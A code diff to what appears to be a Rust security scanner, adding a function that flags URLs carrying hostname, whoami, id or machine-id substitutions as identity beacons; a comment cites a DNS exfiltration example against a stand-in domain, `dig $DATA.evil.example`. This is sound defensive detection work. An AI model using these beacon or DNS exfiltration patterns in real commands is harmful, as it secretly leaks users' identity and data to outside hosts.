@@ -1291,6 +1291,25 @@ pub(crate) fn flow_finding(source: &str, sink: &str, dest: &str) -> Finding {
 /// the name itself carries the data to whoever answers for that domain, and what the data is
 /// cannot be seen. Name lookups count any expansion (`dig $DATA.evil.example`); URLs only a
 /// command substitution (`https://$BUCKET.s3.amazonaws.com` is routine).
+/// The machine's or the user's identity spliced into a URL (`?h=$(hostname)`,
+/// `/$(whoami)`): a beacon reporting who runs this, wherever in the URL it sits. The platform
+/// (`$(uname -s)-$(uname -m)` in a download URL) says nothing of who.
+pub(crate) fn identity_in_url(dest: &str) -> bool {
+    const IDENTITY: &[&str] = &[
+        "$(hostname",
+        "`hostname",
+        "$(whoami",
+        "`whoami",
+        "$(id",
+        "`id",
+        "$(cat /etc/hostname",
+        "$(cat /etc/machine-id",
+        "$HOSTNAME",
+        "${HOSTNAME}",
+    ];
+    dest.contains("://") && IDENTITY.iter().any(|k| dest.contains(k))
+}
+
 pub(crate) fn data_in_hostname(name: &str, dest: &str) -> bool {
     let lookup = matches!(
         name,
